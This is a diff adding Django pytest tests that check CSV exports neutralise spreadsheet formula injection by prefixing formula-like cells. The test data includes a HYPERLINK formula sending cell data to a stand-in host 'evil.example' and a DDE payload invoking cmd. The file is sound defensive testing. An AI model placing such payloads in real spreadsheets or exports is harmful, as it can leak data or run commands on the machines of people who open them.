@@ -1,0 +1,59 @@
+"""CSV exports never carry a cell a spreadsheet would run as a formula."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.contrib.auth.models import Permission
+from django.urls import reverse
+
+from apps.communities.models import Attendance
+from apps.involvement.enums import PaymentStatus
+from tests.factories.accounts import StaffFactory, UserFactory
+from tests.factories.communities import MeetingFactory
+from tests.factories.involvement import ActivityFactory, ExpenseFactory
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def test_finance_export_neutralises_a_name_that_looks_like_a_formula(client):
+    member = UserFactory(display_name=FORMULA)
+    ActivityFactory(user=member, amount_due=Decimal("50.00"), payment_status=PaymentStatus.APPROVED)
+    coordinator = StaffFactory()
+    coordinator.user_permissions.add(Permission.objects.get(codename="export_finance"))
+    client.force_login(coordinator)
+
+    response = client.get("/involvement/finance/export/", {"start": "", "end": ""})
+
+    assert _rows(response)[1][1] == "'" + FORMULA
+    assert _rows(response)[1][3] == "50.00"
+
+
+def test_member_record_csv_neutralises_a_description_that_looks_like_a_formula(client):
+    expense = ExpenseFactory(description="@SUM(1+1)*cmd|' /C calc'!A0")
+    client.force_login(expense.user)
+
+    response = client.get("/me/involvement/record.csv")
+
+    expense_row = next(row for row in _rows(response) if row[0].startswith("Expense"))
+    assert expense_row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_admin_attendance_export_neutralises_a_name_that_looks_like_a_formula(client):
+    meeting = MeetingFactory(title="+Evidence review")
+    Attendance.objects.create(meeting=meeting, user=UserFactory(display_name=FORMULA))
+    client.force_login(StaffFactory(is_superuser=True))
+
+    response = client.post(
+        reverse("admin:communities_meeting_changelist"),
+        {"action": "export_attendance_csv", "_selected_action": [meeting.pk]},
+    )
+
+    assert _rows(response)[1][1:4:2] == ["'+Evidence review", "'" + FORMULA]
